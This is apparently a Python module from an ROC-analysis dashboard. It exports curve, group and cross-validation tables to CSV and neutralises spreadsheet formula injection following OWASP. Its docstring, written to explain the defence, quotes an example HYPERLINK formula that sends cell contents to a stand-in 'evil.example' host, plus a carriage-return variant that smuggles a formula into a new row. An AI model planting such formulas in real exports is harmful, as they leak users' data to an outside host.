"""Tables written for spreadsheets: CSV that cannot inject formulas.

Model names, fold names and ids come from users' files, so a model called
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would run as a formula when an exported CSV is
opened in Excel, LibreOffice or Google Sheets (CSV/formula injection). :func:`csv_safe` applies
the OWASP rule (https://owasp.org/www-community/attacks/CSV_Injection): a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, so the
spreadsheet shows it as text (``'=HYPERLINK(...)``).

Left untouched:

* numeric, boolean and datetime columns (``-0.5`` in a float column stays the number -0.5);
* text that is a plain decimal number (``"-1"``, ``"+2.5e-3"``): a spreadsheet reads it as that
  number, never as a formula, and a quote would only show up as a stray character;
* missing values and non-text objects in mixed columns.

Carriage returns inside text become line feeds. Python's csv writer (behind
:meth:`DataFrame.to_csv`) quotes a cell only for the delimiter, the quote character and the
characters of its line terminator (``"\n"`` by default), so a lone CR would be written
unquoted; a spreadsheet starts a new row at it, and the text after it, say
``abc\r=HYPERLINK(...)``, would become a new row's first cell and run. Line feeds are in every
usual line terminator, so such cells are always quoted and stay one cell.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd

if TYPE_CHECKING:
    from ..core.analysis_types import Analysis

__all__ = ["FORMULA_PREFIXES", "POOLED", "CV_COLUMNS", "cross_validation_table", "csv_safe",
           "curves_table", "neutralise",
           "to_safe_csv", "GROUP", "group_curves_table", "group_table", "with_group_rows"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula, and
    its carriage returns turned into line feeds; any other value as it is."""
    if not isinstance(value, str):
        return value
    fixed = value
    if "\r" in fixed:
        fixed = fixed.replace("\r\n", "\n").replace("\r", "\n")
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(value):
        fixed = "'" + fixed
    return value if fixed == value else fixed


def _is_untouched(series: pd.Series) -> bool:
    dtype = series.dtype
    return (
        pd.api.types.is_numeric_dtype(dtype)  # includes bool
        or pd.api.types.is_datetime64_any_dtype(dtype)
        or pd.api.types.is_timedelta64_dtype(dtype)
        or isinstance(dtype, pd.PeriodDtype | pd.IntervalDtype)
    )


def _safe_column(series: pd.Series) -> pd.Series | None:
    """The neutralised column, or None when nothing in it needs a change."""
    if isinstance(series.dtype, pd.CategoricalDtype):
        series = series.astype(object)
    # each distinct value is checked once: exports repeat a model name on every curve vertex
    codes, uniques = pd.factorize(series, use_na_sentinel=True)
    uniques = np.asarray(uniques, dtype=object)
    fixed = np.array([neutralise(u) for u in uniques], dtype=object)
    changed = np.fromiter((a is not b for a, b in zip(uniques, fixed, strict=True)), bool,
                          count=len(uniques))
    if not changed.any():
        return None
    hit = changed[codes] & (codes >= 0)
    values = series.to_numpy(dtype=object, copy=True)
    values[hit] = fixed[codes[hit]]
    dtype = series.dtype if pd.api.types.is_string_dtype(series.dtype) else object
    return pd.Series(values, index=series.index, name=series.name, dtype=dtype)


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot run as spreadsheet formulas.

    Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading
    single quote (OWASP); numeric, boolean and datetime columns and text that is a plain number
    are kept as they are. The index is not changed (write with ``index=False``, or use
    :func:`to_safe_csv`). ``frame`` itself is not modified.

    >>> csv_safe(pd.DataFrame({"model": ["=1+1", "lr"], "auc": [-0.5, 0.9]})).to_dict("list")
    {'model': ["'=1+1", 'lr'], 'auc': [-0.5, 0.9]}
    """
    out = frame.copy(deep=False)
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if _is_untouched(column):
            continue
        fixed = _safe_column(column)
        if fixed is not None:
            out.isetitem(position, fixed)
    if not isinstance(out.columns, pd.MultiIndex):
        names = [neutralise(c) for c in out.columns]
        if any(a != b for a, b in zip(names, out.columns, strict=True)):
            out.columns = pd.Index(names, dtype=object)
    return out


def to_safe_csv(frame: pd.DataFrame, *, index: bool = False, **to_csv) -> str:
    """The text of ``csv_safe(frame).to_csv(index=index, **to_csv)`` (no index by default)."""
    return csv_safe(frame).to_csv(None, index=index, **to_csv)


#: The ``fold`` of the Curves CSV's rows of a model's pooled curve.
POOLED = "pooled"


def _curve_rows(model: str, fold: str, curve) -> pd.DataFrame:
    thresholds = np.where(np.isinf(curve.thresholds), np.nan, curve.thresholds)
    return pd.DataFrame({"model": model, "fold": fold, "fpr": curve.fpr, "tpr": curve.tpr,
                         "threshold": thresholds})


def curves_table(analysis: Analysis) -> pd.DataFrame:
    """The Curves CSV as a table: ``model``, ``fold``, ``fpr``, ``tpr``, ``threshold``.

    Per model, every vertex of its pooled ROC curve (all folds' rows as one test set;
    ``fold`` is :data:`POOLED`), then, for a model with two or more folds, every vertex of
    each fold's own curve (``fold`` is the fold's name). The origin's threshold (+infinity,
    nothing flagged) is empty. Write it with :func:`to_safe_csv`.
    """
    frames = []
    for m in analysis.models:
        frames.append(_curve_rows(m.name, POOLED, m.curve))
        if len(m.folds) > 1:
            frames.extend(_curve_rows(m.name, fold, c) for fold, c in m.folds.items())
    if not frames:
        return pd.DataFrame(columns=["model", "fold", "fpr", "tpr", "threshold"])
    return pd.concat(frames, ignore_index=True)


#: The column the Curves and Table CSV gain when the page slices a model by group: the
#: group's name on its rows, empty on the rows of all cases.
GROUP = "group"


def group_curves_table(model: str, rocs) -> pd.DataFrame:
    """The Curves CSV's rows of one model's groups (:func:`roc_dash.core.subgroups.slices.group_rocs`):
    ``model``, ``fold`` (:data:`POOLED`), ``group``, ``fpr``, ``tpr``, ``threshold``; a group
    with one class only has no rows."""
    frames = [_curve_rows(model, POOLED, r.curve).assign(**{GROUP: r.name})
              for r in rocs if r.curve is not None]
    if not frames:
        return pd.DataFrame(columns=["model", "fold", GROUP, "fpr", "tpr", "threshold"])
    return pd.concat(frames, ignore_index=True)[["model", "fold", GROUP, "fpr", "tpr",
                                                 "threshold"]]


def group_table(model: str, analysis, solution) -> pd.DataFrame:
    """The Table CSV's rows of one model's groups: its numbers in the Slices card, each
    group's own optimum (:class:`roc_dash.core.subgroups.slices.SliceAnalysis`) and its point under
    the constraint (:class:`roc_dash.core.subgroups.group_thresholds.ConstrainedSolution`)."""
    optima = {o.name: o for o in analysis.optima}
    rules = {r.group: r for r in solution.rules}
    rows = []
    for r in analysis.rocs:
        o, rule = optima.get(r.name), rules.get(r.name)
        ci = r.auc_interval
        rows.append({
            "model": model, GROUP: r.name, "rows": r.rows, "positives": r.n_pos,
            "negatives": r.n_neg, "prevalence": r.prevalence, "auc": r.auc,
            "auc_low": ci.low if ci is not None else np.nan,
            "auc_high": ci.high if ci is not None else np.nan, "small": r.small,
            "threshold": o.optimum.threshold if o is not None else np.nan,
            "tpr": o.optimum.tpr if o is not None else np.nan,
            "fpr": o.optimum.fpr if o is not None else np.nan,
            "expected_cost": o.expected_cost if o is not None else np.nan,
            "constraint": solution.constraint,
            "constrained_tpr": rule.tpr if rule is not None else np.nan,
            "constrained_fpr": rule.fpr if rule is not None else np.nan,
            "constrained_flagged": rule.flagged if rule is not None else np.nan,
            "constrained_randomised_share": (rule.randomised_share if rule is not None
                                             else np.nan),
            "constrained_expected_cost": rule.expected_cost if rule is not None else np.nan,
        })
    frame = pd.DataFrame(rows)
    if len(frame):
        frame["threshold"] = frame["threshold"].replace([np.inf, -np.inf], np.nan)
    return frame


def with_group_rows(overall: pd.DataFrame, groups: list[pd.DataFrame]) -> pd.DataFrame:
    """``overall`` (rows of all cases; an empty ``group``) followed by the groups' rows,
    columns as in ``overall`` then the groups' own."""
    if not groups:
        return overall
    out = pd.concat([overall.assign(**{GROUP: ""}), *groups], ignore_index=True)
    first = [c for c in overall.columns if c != GROUP]
    head = first[:1] + [GROUP] + first[1:]
    return out[head + [c for c in out.columns if c not in head]]
#: The cross-validation columns of the Table CSV, after the model table's own.
CV_COLUMNS = ("cv_auc_mean", "cv_auc_sd", "cv_auc_ci_low", "cv_auc_ci_high", "cv_folds")


def cross_validation_table(analysis: Analysis) -> pd.DataFrame:
    """Per model (``model`` column), its cross-validated AUC
    (:class:`~roc_dash.core.inference.cross_validation.CrossValidatedAuc`): the mean of its folds' own
    AUCs, their SD, the LeDell et al. (2015) confidence interval at the analysis' level and
    the number of folds averaged; empty (NaN) for a model without two folds holding both
    classes."""
    rows = []
    for m in analysis.models:
        cv = m.cross_validation
        values = ((cv.auc_mean, cv.auc_sd, cv.ci_low, cv.ci_high, int(cv.auc.size))
                  if cv is not None else (np.nan,) * len(CV_COLUMNS))
        rows.append({"model": m.name, **dict(zip(CV_COLUMNS, values, strict=True))})
    return pd.DataFrame(rows, columns=["model", *CV_COLUMNS]).astype({"cv_folds": "Int64"})
